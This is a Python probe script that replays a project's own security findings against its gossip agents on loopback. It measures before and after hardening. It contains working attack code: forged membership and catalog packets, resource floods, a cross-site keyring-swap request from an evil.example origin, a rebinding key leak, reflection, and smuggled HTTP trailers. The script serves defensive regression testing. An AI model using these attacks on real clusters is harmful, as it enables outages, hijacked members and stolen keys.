"""Issue 12's findings, replayed as an attacker would against real agents on loopback.

Each probe starts a small cluster of ``rumor agent`` processes from the interpreter given
by ``--python`` (so the same script measures any tree: the unhardened one before, this
one after), attacks it one way, and reports what an operator would see: agents still
up, members still alive, keys changed, bytes of memory, seconds of delay::

    .venv/bin/python bench/hostile_probe.py --python /work/baseline/.venv/bin/python \\
        --out /tmp/probe-before.json
    .venv/bin/python bench/hostile_probe.py --python .venv/bin/python --out /tmp/probe-after.json

The packets are built raw (``tests/gossip/test_hostile.py``'s ``packet``): no codec of either
tree validates them on the way out. Sealed packets are sealed by the target tree's own
``KeyringSeal`` in a child process, since the seal format changed.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import json
import operator
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgpack

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from tests import agents as agents_mod
from tests.agents import HOST, Agent, AgentCluster, free_port, wait_for
from tests.cluster.test_hostile_agents import flood_host_names, open_idle
from tests.gossip.test_hostile import ALIVE, DEAD, INDIRECT, PING, USER, Deep, packet

PYTHON = sys.executable
Probe = Callable[[Path], dict[str, Any]]
PROBES: dict[str, Probe] = {}


def probe(name: str) -> Callable[[Probe], Probe]:
    def register(fn: Probe) -> Probe:
        PROBES[name] = fn
        return fn
    return register


@contextlib.contextmanager
def cluster(workdir: Path, n: int,
            extra: list[str] | Callable[[int], list[str]] | None = None,
            ) -> Iterator[AgentCluster]:
    workdir.mkdir(parents=True, exist_ok=True)
    c = AgentCluster(workdir)
    try:
        c.start(n, extra or [])
        yield c
    finally:
        c.close()


def up(c: AgentCluster) -> int:
    return sum(1 for a in c.agents if a.proc is not None and a.proc.poll() is None)


def seen_alive(c: AgentCluster) -> int:
    """The fewest of the cluster's own agents that any live agent sees alive."""
    names = {a.name for a in c.agents}
    counts = [sum(1 for m in a.members().values() if m["name"] in names
                  and m["status"] == "alive")
              for a in c.agents if a.proc is not None and a.proc.poll() is None]
    return min(counts, default=0)


def survive(c: AgentCluster, seconds: float) -> dict[str, Any]:
    time.sleep(seconds)
    return {"agents_up": up(c), "of": len(c.agents), "min_alive_seen": seen_alive(c)}


def keyring_file(workdir: Path, key: str, mode: int = 0o600) -> Path:
    workdir.mkdir(parents=True, exist_ok=True)
    ring = workdir / "ring"
    ring.write_text(key + "\n")
    ring.chmod(mode)
    return ring


def new_key() -> str:
    return base64.b64encode(os.urandom(32)).decode()


def seal_for(key: str, data: bytes, to: str) -> bytes:
    """``data`` sealed by the target tree's own seal, addressed to ``to`` if it can be."""
    code = (
        "import inspect, os, sys, time\n"
        "from rumor.gossip.keyring import Keyring, KeyringSeal, decode_key\n"
        "key, to, data = sys.argv[1], sys.argv[2], sys.stdin.buffer.read()\n"
        "ring = Keyring([decode_key(key)])\n"
        "if 'wall_offset' in inspect.signature(KeyringSeal).parameters:\n"
        "    out = KeyringSeal(ring, wall_offset=0.0, random_bytes=os.urandom)"
        ".seal(time.time(), data, to)\n"
        "else:\n"
        "    out = KeyringSeal(ring).seal(data)\n"
        "sys.stdout.buffer.write(out)\n")
    return subprocess.run([PYTHON, "-c", code, key, to], input=data, capture_output=True,
                          check=True).stdout


def send_udp(data: bytes, *targets: Agent) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for a in targets:
            s.sendto(data, (HOST, a.port))


def tracebacks(c: AgentCluster) -> int:
    return sum(a.log.read_text(errors="replace").count("Traceback") for a in c.agents)


def http(addr: str, method: str, path: str, body: bytes = b"",
         headers: dict[str, str] | None = None) -> tuple[int, bytes]:
    req = urllib.request.Request(f"http://{addr}{path}", data=body or None, method=method,
                                 headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=5) as r:
            return r.status, bytes(r.read())
    except urllib.error.HTTPError as e:
        return e.code, bytes(e.read())


# ---- 1-3: one datagram or frame that used to kill ------------------------------------


@probe("1_poison_address")
def poison_address(work: Path) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for keyed in (False, True):
        key = new_key()
        extra = ["--keyring", str(keyring_file(work, key))] if keyed else []
        with cluster(work / ("keyed" if keyed else "plain"), 3, extra) as c:
            for addr in (["127.0.0.1\x00", 7946], ["a" * 64 + ".example", 7946]):
                data = packet([ALIVE, 1, f"evil{len(addr[0])}", addr, {}])
                for a in c.agents:
                    send_udp(seal_for(key, data, a.name) if keyed else data, a)
            out["keyed" if keyed else "plaintext"] = survive(c, 8.0)
    return out


@probe("2_incarnation_overflow")
def incarnation_overflow(work: Path) -> dict[str, Any]:
    with cluster(work, 3) as c:
        send_udp(packet([DEAD, 2**64 - 1, "a1", "a0"]), *c.agents)
        res = survive(c, 6.0)
        res["victim_up"] = c.agents[1].proc is not None and c.agents[1].proc.poll() is None
        return res


@probe("3_deep_nesting")
def deep_nesting(work: Path) -> dict[str, Any]:
    with cluster(work, 3) as c:
        # A message (not a field) nested 1,000 levels: 1 KB.
        send_udp(packet(Deep(1000)), c.agents[0])
        body = packet(Deep(1000))
        with (socket.create_connection((HOST, c.agents[1].port), timeout=2) as s,
              contextlib.suppress(OSError)):
            s.sendall(struct.pack(">I", len(body)) + body)
            s.recv(100)
        return survive(c, 5.0) | {"tracebacks": tracebacks(c)}


# ---- 4: catalog records about a node that it did not write ----------------------------


def _catalog(node: str, epoch: int, services: list[tuple[str, str]]) -> bytes:
    records = [[sid, name, "127.0.0.1", 9999, ["forged"], "", 1, 0, [], 1, False]
               for sid, name in services]
    return bytes([1]) + msgpack.packb([1, node, epoch, records], use_bin_type=True)


@probe("4_catalog_poisoning")
def catalog_poisoning(work: Path) -> dict[str, Any]:
    with cluster(work, 3) as c:
        a0, a1, a2 = c.agents
        status, _ = http(a1.api, "PUT", "/v1/agent/service/register",
                         json.dumps({"name": "web", "port": 8080}).encode(),
                         {"Content-Type": "application/json"})
        assert status == 200, status
        wait_for(lambda: a0.get("/v1/catalog/service/web"), 10, "web on a0")
        forged = packet([USER, "catalog", _catalog("a1", 2**53 - 1, [("evil-1", "evil")])])
        send_udp(forged, a0, a2)
        time.sleep(2.0)
        before = bool(a0.get("/v1/catalog/service/evil"))
        # The owner registers again (what an operator would try to repair it).
        http(a1.api, "PUT", "/v1/agent/service/register",
             json.dumps({"name": "api", "port": 8081}).encode(),
             {"Content-Type": "application/json"})
        time.sleep(3.0)
        return {"forged_visible_on_peer": before,
                "forged_visible_after_owner_reregisters": bool(
                    a0.get("/v1/catalog/service/evil") or a2.get("/v1/catalog/service/evil")),
                "owner_service_visible": bool(a0.get("/v1/catalog/service/web"))}


@probe("12_catalog_flood")
def catalog_flood(work: Path) -> dict[str, Any]:
    """Issue 27, finding 2: records for invented names and an oversized set for a real
    member, raw over UDP (the flood ``tests/cluster/test_catalog_flood.py`` sends:
    700 datagrams of ~50 KB, 36 MB), then a new agent joins through the flooded one."""
    from tests.cluster.test_catalog_flood import GHOSTS, RECORDS_PER_DATAGRAM, _records

    with cluster(work, 2, lambda i: ["--service", "name=web,port=8080"] if i == 1
                 else []) as c:
        a0 = c.agents[0]
        wait_for(lambda: a0.get("/v1/catalog/service/web"), 10, "web on a0")
        time.sleep(1.0)
        before = a0.rss_kb()
        epoch = int(time.time() * 1e6)
        flood = [packet([USER, "catalog", _records(f"ghost-{k}", epoch, 0,
                                                   RECORDS_PER_DATAGRAM)])
                 for k in range(GHOSTS)]
        flood.append(packet([USER, "catalog", _records("a1", epoch, 0, 1000, pad=1)]))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            for d in flood:
                s.sendto(d, (HOST, a0.port))
                time.sleep(0.01)
        def answers(a: Agent, path: str) -> Any:
            try:
                return a.get(path)
            except Exception:  # busy (a timeout) or not up yet
                return None

        wait_for(lambda: bool(a0.members()), 60, "a0's API after the flood")
        time.sleep(3.0)
        after = a0.rss_kb()
        held: dict[str, Any] = {}
        with contextlib.suppress(Exception):
            held = {k: v for k, v in answers(a0, "/v1/health").get("catalog", {}).items()
                    if k != "stats"}
        a2 = Agent("a2", work)
        a2.start(a0)
        c.agents.append(a2)
        t0 = time.monotonic()
        joined: float | None = None
        with contextlib.suppress(AssertionError):
            wait_for(lambda: c.converged(3), 30, "a2 to join")
            joined = round(time.monotonic() - t0, 2)
        web_on_new = False
        with contextlib.suppress(AssertionError):
            wait_for(lambda: answers(a2, "/v1/catalog/service/web"), 10, "web on a2")
            web_on_new = True
        log = a2.log.read_text(errors="replace")
        return {"flood_bytes": sum(map(len, flood)), "rss_before_mb": round(before / 1024, 1),
                "rss_after_mb": round(after / 1024, 1), "catalog_held": held,
                "new_agent_join_s": joined, "web_on_new_agent": web_on_new,
                "join_errors": [ln[:300] for ln in log.splitlines()
                                if "exceeds" in ln or "could not join" in ln][:3]}


# ---- 5-6: the local API as a web page or a rebinding name sees it ----------------------


def _key_ids(a: Agent) -> list[str]:
    return sorted(str(k.get("id")) for k in a.get("/v1/keyring")["keys"])


@probe("5_cross_site_keyring")
def cross_site(work: Path) -> dict[str, Any]:
    key = new_key()
    with cluster(work, 3, ["--keyring", str(keyring_file(work, key))]) as c:
        before = [_key_ids(a) for a in c.agents]
        evil = new_key()
        page = {"Origin": "http://evil.example", "Content-Type": "text/plain"}
        statuses = []
        for op in ("install", "use"):
            body = json.dumps({"key": evil}).encode()
            statuses.append(http(c.agents[0].api, "POST", f"/v1/keyring/{op}", body, page)[0])
        reg = http(c.agents[0].api, "POST", "/v1/agent/service/register",
                   json.dumps({"name": "phish", "port": 1}).encode(), page)[0]
        time.sleep(1.0)
        after = [_key_ids(a) for a in c.agents]
        file_has_evil = evil in (work / "ring").read_text()
        return {"statuses": [*statuses, reg],
                "agents_whose_keys_changed": sum(map(operator.ne, before, after)),
                "key_file_rewritten_with_attacker_key": file_has_evil,
                "service_registered": bool(c.agents[0].get("/v1/catalog/service/phish"))}


@probe("6_rebinding_key_disclosure")
def rebinding(work: Path) -> dict[str, Any]:
    key = new_key()
    with cluster(work, 1, ["--keyring", str(keyring_file(work, key))]) as c:
        a = c.agents[0]
        status, body = http(a.api, "GET", "/v1/keyring", headers={"Host": "evil.example"})
        _, own = http(a.api, "GET", "/v1/keyring")
        return {"status_foreign_host": status, "key_in_foreign_answer": key.encode() in body,
                "key_in_own_answer": key.encode() in own}


# ---- 7-9: resources before authentication, metric labels, descriptors -----------------


def _pre_auth(work: Path, conns: int) -> dict[str, Any]:
    with cluster(work, 1, ["--keyring", str(keyring_file(work, new_key()))]) as c:
        a = c.agents[0]
        time.sleep(0.5)
        before = a.rss_kb()
        socks, chunk = [], b"\x00" * (1 << 20)
        try:
            for _ in range(conns):
                s = socket.create_connection((HOST, a.port), timeout=2)
                socks.append(s)
                s.settimeout(0.5)
                with contextlib.suppress(OSError):
                    s.sendall(struct.pack(">I", 16 << 20))
                    for _ in range(16):
                        s.sendall(chunk)
            time.sleep(1.0)
            return {"connections": conns, "rss_before_mb": round(before / 1024, 1),
                    "rss_after_mb": round(a.rss_kb() / 1024, 1), "api_answers": bool(a.members())}
        finally:
            for s in socks:
                s.close()


@probe("7_pre_auth_memory")
def pre_auth(work: Path) -> dict[str, Any]:
    return {"20": _pre_auth(work / "20", 20), "50": _pre_auth(work / "50", 50)}


@probe("8_metric_labels")
def metric_labels(work: Path) -> dict[str, Any]:
    port = free_port()
    with cluster(work, 1, ["--inbound", f"{HOST}:{port}"]) as c:
        a = c.agents[0]

        def flood(start: int, n: int) -> None:
            flood_host_names(port, start, n)

        def scrape() -> tuple[int, float]:
            t0 = time.monotonic()
            n = len(http(a.api, "GET", "/metrics")[1])
            return n, time.monotonic() - t0

        flood(0, 100)
        size0, _ = scrape()
        rss0 = a.rss_kb()
        t0 = time.monotonic()
        flood(100, 20_000)
        flood_s = time.monotonic() - t0
        size1, render = scrape()
        return {"requests": 20_100, "flood_s": round(flood_s, 1),
                "metrics_bytes_before": size0, "metrics_bytes_after": size1,
                "scrape_s_after": round(render, 3),
                "rss_growth_mb": round((a.rss_kb() - rss0) / 1024, 1)}


def _fd_limit() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))  # Debian's default soft limit


@probe("9_file_descriptors")
def file_descriptors(work: Path) -> dict[str, Any]:
    out_port = free_port()
    c = AgentCluster(work)
    try:
        a0, _ = c.start(2, lambda i: ["--outbound", f"{HOST}:{out_port}"] if i == 0 else [],
                        preexec=lambda i: _fd_limit if i == 0 else None)
        socks = open_idle(out_port, 2000)
        try:
            time.sleep(2.0)
            t0 = time.monotonic()
            api_ok = bool(a0.members())
            api_s = time.monotonic() - t0
            a2 = Agent("a2", work)
            a2.start(a0)
            c.agents.append(a2)
            t0 = time.monotonic()
            joined: float | None = None
            with contextlib.suppress(AssertionError):
                wait_for(lambda: c.converged(3), 30, "a2 to join")
                joined = round(time.monotonic() - t0, 2)
            time.sleep(3.0)
            log = a0.log.read_text(errors="replace")
            return {"idle_connections": 2000, "api_answers": api_ok,
                    "api_s": round(api_s, 3), "join_s": joined,
                    "tracebacks_in_log": log.count("Traceback"),
                    "emfile_lines_in_log": log.count("Too many open files")}
        finally:
            for s in socks:
                s.close()
    finally:
        c.close()


# ---- 10: floods of invented members, reflection ----------------------------------------


@probe("10_plaintext_flood")
def plaintext_flood(work: Path) -> dict[str, Any]:
    """24 datagrams of 250 invented members each (the 256-message cap refuses bigger
    ones outright, so they never reached the new-name throttle), then a paused member:
    how long until the flooded agent suspects it (1.5 s normally)."""
    with cluster(work, 3) as c:
        a0, a1, a2 = c.agents
        for d in range(24):  # 6,000 fake members, datagrams the receiver accepts
            send_udp(packet(*[[ALIVE, 1, f"f{d}-{i}", [f"127.9.{d}.{i + 1}", 7000], {}]
                              for i in range(250)]), a0)
        time.sleep(2.0)
        table = len(a0.members())
        health = http(a0.api, "GET", "/v1/health")[0]
        assert a2.proc is not None
        a2.proc.send_signal(signal.SIGSTOP)
        t0 = time.monotonic()
        detected: float | None = None
        try:
            while time.monotonic() - t0 < 60:
                if a0.status_of("a2") not in ("alive", None):
                    detected = round(time.monotonic() - t0, 2)
                    break
                time.sleep(0.05)
        finally:
            a2.proc.send_signal(signal.SIGCONT)
        # Reflection: one datagram of ping-reqs naming an address of our choosing.
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as victim:
            victim.bind((HOST, 0))
            victim.settimeout(0.2)
            vaddr = list(victim.getsockname())
            send_udp(packet(*[[INDIRECT, i, f"g{i}", vaddr, "a0", False]
                              for i in range(2000)]), a1)
            got, t1 = 0, time.monotonic()
            while time.monotonic() - t1 < 3:
                with contextlib.suppress(TimeoutError):
                    victim.recv(65536)
                    got += 1
        return {"member_table_after_6000": table, "health_status": health,
                "paused_member_suspected_s": detected, "reflected_datagrams": got}


# ---- 27: forged membership ----------------------------------------------------------


def _signing_flags(work: Path, i: int) -> list[str]:
    """Plaintext with trust on first use, where the probed tree has it (issue 27)."""
    out = subprocess.run([PYTHON, "-m", "rumor.cli", "agent", "--help"],
                         capture_output=True, text=True).stdout
    if "--node-identity" not in out:
        return []
    return ["--data-dir", str(work / f"data-{i}"), "--node-tofu", "--node-identity",
            "require"]


@probe("27_membership_forgery")
def membership_forgery(work: Path) -> dict[str, Any]:
    """The two-step climb (Alive(V, i+2^24) then Dead(V, i+2^25) in one datagram) and
    the hijack (V's name at the attacker's listener with a forged rumor.inbound tag),
    against a plaintext cluster; the probed tree's signed membership where it has it."""
    with cluster(work, 3, lambda i: _signing_flags(work, i)) as c:
        a0, a1, a2 = c.agents
        inc = a0.members()["a2"]["incarnation"]
        for a in (a0, a1):
            send_udp(packet([ALIVE, inc + 2**24, "a2", [HOST, a2.port], {}],
                            [DEAD, inc + 2**25, "a2", a.name]), a)
        time.sleep(5.0)
        after_climb = [a.status_of("a2") for a in (a0, a1)]
        time.sleep(10.0)
        after_15s = [a.status_of("a2") for a in (a0, a1)]
        evil = free_port()
        inc = max(a.members()["a2"]["incarnation"] for a in (a0, a1))
        for a in (a0, a1):
            send_udp(packet([ALIVE, inc + 1, "a2", [HOST, evil], {"rumor.inbound": "1"}]),
                     a)
        time.sleep(3.0)
        views = [a.members()["a2"] for a in (a0, a1)]
        return {"signed": bool(_signing_flags(work, 0)),
                "victim_status_5s_after_climb": after_climb,
                "victim_status_15s_after_climb": after_15s,
                "victim_address_moved": sum(v["addr"] != a2.addr for v in views),
                "victim_inbound_tag_forged": sum("rumor.inbound" in v["tags"] for v in views)}


# ---- 11: the smaller ones ---------------------------------------------------------------


def _refused(a: Agent) -> int:
    return sum(a.get("/v1/health").get("encryption", {}).get("refused", {}).values())


@probe("11_smaller")
def smaller(work: Path) -> dict[str, Any]:
    key = new_key()
    ring = keyring_file(work, key, 0o644)  # readable by others
    dns = free_port()
    with cluster(work, 3, lambda i: ["--keyring", str(ring)]
                 + (["--dns", f"{HOST}:{dns}"] if i == 0 else [])) as c:
        a0, a1, a2 = c.agents
        sealed = seal_for(key, packet([PING, 424242, "a1", "probe"]), "a1")
        send_udp(sealed, a1)
        time.sleep(0.3)
        r2 = _refused(a2)
        send_udp(sealed, a2)  # the same bytes, to another agent
        time.sleep(0.5)
        replay_refused = _refused(a2) > r2
        nested = http(a0.api, "PUT", "/v1/agent/service/register", b"[" * 100_000,
                      {"Content-Type": "application/json"})[0]
        name = b"".join(bytes([63]) + b"a" * 63 for _ in range(5)) + b"\x00"  # 320 bytes
        query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + b"\x00\x01\x00\x01"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            s.sendto(query, (HOST, dns))
            rcode = s.recv(4096)[3] & 0x0F
        time.sleep(0.5)
        log = a0.log.read_text(errors="replace")
        return {"replay_to_other_agent_refused": replay_refused,
                "nested_json_status": nested, "long_dns_name_rcode": rcode,
                "tracebacks_in_log": tracebacks(c),
                "world_readable_keyring_warned": "readable" in log.lower()}


# ---- 27: the data plane's descriptors, loops, trailers, 1xx ------------------------------

FLOOD_FROM = "127.0.0.9"  # "another host" as the agent sees it


class RawBackend:
    """A scripted HTTP backend on loopback; by path: ``/sink`` reads and never answers,
    ``/trailers`` records the request's trailer names, ``/cl-trailer`` answers with a
    Content-Length trailer and keeps the connection open, ``/1xx`` sends 100,000 102s."""

    def __init__(self) -> None:
        self.sock = socket.create_server((HOST, 0), backlog=4096)
        self.port = self.sock.getsockname()[1]
        self.accepted = self.closed = 0
        self.trailers: list[str] = []
        import threading
        self._threading = threading
        self._lock = threading.Lock()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            with self._lock:
                self.accepted += 1
            self._threading.Thread(target=self._serve, args=(c,), daemon=True).start()

    def _serve(self, c: socket.socket) -> None:
        try:
            self._script(c)
        finally:
            with self._lock:
                self.closed += 1

    def _script(self, c: socket.socket) -> None:
        with c, contextlib.suppress(OSError):
            data = b""
            while b"\r\n\r\n" not in data:
                got = c.recv(65536)
                if not got:
                    return
                data += got
            path = data.split(b" ", 2)[1]
            if path == b"/trailers":
                while not data.endswith(b"\r\n\r\n") or data.count(b"\r\n\r\n") < 2:
                    data += c.recv(65536)
                tail = data.split(b"\r\n0\r\n", 1)[1]
                self.trailers = [ln.split(b":")[0].decode().lower()
                                 for ln in tail.split(b"\r\n") if b":" in ln]
                c.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close"
                          b"\r\n\r\n")
                return  # (the finally below counts it closed)
            elif path == b"/cl-trailer":
                c.sendall(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n"
                          b"3\r\nabc\r\n0\r\ncontent-length: 5\r\n\r\n")
                time.sleep(90)
            elif path == b"/1xx":
                c.sendall(b"HTTP/1.1 102 Processing\r\n\r\n" * 100_000
                          + b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")
            while c.recv(65536):  # /sink, and the rest: until the proxy closes
                pass

    def close(self) -> None:
        self.sock.close()


def _sidecar(work: Path, backend_port: int, service: str,
             extra: list[str] | None = None, fd_limit: bool = False,
             ) -> tuple[AgentCluster, Agent, int, int]:
    out_port, in_port = free_port(), free_port()
    c = AgentCluster(work)
    c.start(1, ["--outbound", f"{HOST}:{out_port}", "--inbound", f"{HOST}:{in_port}",
                "--service", f"name={service},port={backend_port}", *(extra or [])],
            preexec=(lambda i: _fd_limit) if fd_limit else None)
    a = c.agents[0]
    wait_for(lambda: a.get(f"/v1/catalog/service/{service}"), 20, "the service")
    return c, a, out_port, in_port


def _raw(port: int, data: bytes, timeout: float = 90.0) -> tuple[bytes, float]:
    """Send ``data``, read until the proxy closes (or ``timeout``): (bytes, seconds)."""
    t0 = time.monotonic()
    out = b""
    with socket.create_connection((HOST, port), timeout=timeout) as s:
        s.sendall(data)
        with contextlib.suppress(OSError):
            while got := s.recv(65536):
                out += got
                if out.endswith(b"\r\n\r\n") and b" 200 " in out[:20] \
                        and b"content-length: 0" in out:
                    break
    return out, round(time.monotonic() - t0, 2)


def _agent_fds(a: Agent) -> int:
    assert a.proc is not None
    return len(os.listdir(f"/proc/{a.proc.pid}/fd"))


def _get(port: int, host: str, timeout: float) -> tuple[int | str, float]:
    t0 = time.monotonic()
    try:
        with socket.create_connection((HOST, port), timeout=timeout) as s:
            s.sendall(f"GET / HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n"
                      .encode())
            status: int | str = int(s.recv(65536).split(b" ", 2)[1])
    except (OSError, ValueError, IndexError) as e:
        status = type(e).__name__
    return status, round(time.monotonic() - t0, 3)


@probe("27_4a_inbound_flood_vs_outbound")
def inbound_flood(work: Path) -> dict[str, Any]:
    """1,000 silent connections from one host to the inbound listener (fd limit 1024,
    Debian's default): do this host's own outbound calls still work?"""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 8192)), hard))
    from tests.backends import Backend
    web = Backend("b1")
    c, _a, out_port, in_port = _sidecar(work, web.port, "web", fd_limit=True)
    try:
        wait_for(lambda: _get(out_port, "web", 2)[0] == 200, 20, "web via the sidecar")
        socks = []
        for _ in range(1000):
            s = socket.socket()
            s.bind((FLOOD_FROM, 0))
            s.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                s.connect((HOST, in_port))
            socks.append(s)
        try:
            time.sleep(1.0)
            calls = [_get(out_port, "web", 5.0) for _ in range(5)]
            time.sleep(6.0)
            held = 0
            for s in socks:
                try:
                    held += s.recv(1) != b""
                except BlockingIOError:
                    held += 1
                except OSError:
                    pass
        finally:
            for s in socks:
                s.close()
        ok = sum(1 for st, _ in calls if st == 200)
        return {"flood": 1000, "outbound_calls_ok": f"{ok}/5",
                "outbound_call_s": sorted(t for _, t in calls)[2],
                "flood_connections_held_after_7s": held}
    finally:
        c.close()
        web.close()


@probe("27_4b_abandoned_uploads")
def abandoned_uploads(work: Path, n: int = 4000) -> dict[str, Any]:
    """``n`` clients each send a 64 KiB POST to the inbound listener for a service that
    never answers, and leave at once."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 16384)), hard))
    b = RawBackend()
    c, a, _, in_port = _sidecar(work, b.port, "sink")
    try:
        time.sleep(0.5)
        rss0, fds0 = a.rss_kb(), _agent_fds(a)
        body = b"x" * 65536
        for _ in range(n):
            with contextlib.suppress(OSError), \
                    socket.create_connection((HOST, in_port), timeout=5) as s:
                s.sendall(b"POST /sink HTTP/1.1\r\nhost: sink\r\ncontent-length: %d\r\n"
                          b"\r\n" % len(body) + body)
        out: dict[str, Any] = {"uploads": n, "rss_before_mb": round(rss0 / 1024, 1),
                               "fds_before": fds0}
        for wait in (3, 10):
            time.sleep(wait - (3 if wait > 3 else 0))
            out |= {f"rss_after_{wait}s_mb": round(a.rss_kb() / 1024, 1),
                    f"fds_after_{wait}s": _agent_fds(a),
                    f"upstream_open_after_{wait}s": b.accepted - b.closed}
        return out | {"upstream_conns": b.accepted}
    finally:
        c.close()
        b.close()


@probe("27_4c_self_loop")
def self_loop(work: Path) -> dict[str, Any]:
    """A service registered at the agent's own outbound port, called once."""
    out_port = free_port()
    c = AgentCluster(work)
    try:
        c.start(1, ["--outbound", f"{HOST}:{out_port}", "--inbound",
                    f"{HOST}:{free_port()}", "--service", f"name=loop,port={out_port}"])
        a = c.agents[0]
        wait_for(lambda: a.get("/v1/catalog/service/loop"), 20, "the service")
        time.sleep(0.3)
        peak = [_agent_fds(a)]
        done = [False]
        import threading

        def sample() -> None:
            while not done[0]:
                with contextlib.suppress(OSError):
                    peak[0] = max(peak[0], _agent_fds(a))
                time.sleep(0.01)
        t = threading.Thread(target=sample, daemon=True)
        t.start()
        out, secs = _raw(out_port, b"GET / HTTP/1.1\r\nhost: loop\r\nconnection: close\r\n\r\n",
                         timeout=60)
        done[0] = True
        t.join()
        err = next((ln for ln in out.split(b"\r\n") if ln.startswith(b"x-rumor-error")), b"")
        return {"status": out[9:12].decode() or None, "seconds": secs,
                "error": err.decode(errors="replace")[:120], "peak_fds": peak[0]}
    finally:
        c.close()


@probe("27_6_trailers_1xx")
def trailers_1xx(work: Path) -> dict[str, Any]:
    b = RawBackend()
    c, _a, out_port, _ = _sidecar(work, b.port, "raw")
    try:
        _raw(out_port, b"POST /trailers HTTP/1.1\r\nhost: raw\r\ntransfer-encoding: chunked"
             b"\r\n\r\n3\r\nabc\r\n0\r\nhost: evil\r\nx-rumor-source: admin\r\n"
             b"content-type: x/y\r\nx-ok: 1\r\n\r\n", timeout=10)
        _cl, cl_s = _raw(out_port, b"GET /cl-trailer HTTP/1.1\r\nhost: raw\r\n\r\n")
        many, many_s = _raw(out_port, b"GET /1xx HTTP/1.1\r\nhost: raw\r\n"
                            b"connection: close\r\n\r\n", timeout=60)
        final = many.split(b"HTTP/1.1 102 Processing\r\n\r\n")[-1]
        return {"request_trailers_at_backend": b.trailers,
                "cl_trailer_client_waited_s": cl_s,
                "interim_1xx_relayed": many.count(b"HTTP/1.1 102"),
                "final_status_after_1xx": final[9:12].decode() or None,
                "seconds_1xx": many_s}
    finally:
        c.close()
        b.close()


def main() -> None:
    global PYTHON
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--python", default=sys.executable,
                    help="interpreter whose rumor is probed (default: this one)")
    ap.add_argument("--only", default="", help="comma-separated probe name prefixes")
    ap.add_argument("--out", type=Path, help="also write the results here as JSON")
    args = ap.parse_args()
    PYTHON = args.python
    agents_mod.rumor_cmd = lambda: [PYTHON, "-m", "rumor.cli"]
    wanted = [p for p in args.only.split(",") if p]
    results: dict[str, Any] = {"python": PYTHON}
    with tempfile.TemporaryDirectory(prefix="rumor-probe-") as tmp:
        for name, fn in PROBES.items():
            if wanted and not any(name.startswith(w) for w in wanted):
                continue
            work = Path(tmp) / name
            work.mkdir()
            t0 = time.monotonic()
            try:
                results[name] = fn(work)
            except Exception as e:  # a probe that cannot finish is itself a finding
                results[name] = {"error": f"{type(e).__name__}: {e}"[:300]}
            print(f"{name} ({time.monotonic() - t0:.0f} s): {json.dumps(results[name])}",
                  flush=True)
    if args.out:
        args.out.write_text(json.dumps(results, indent=2) + "\n")


if __name__ == "__main__":
    main()
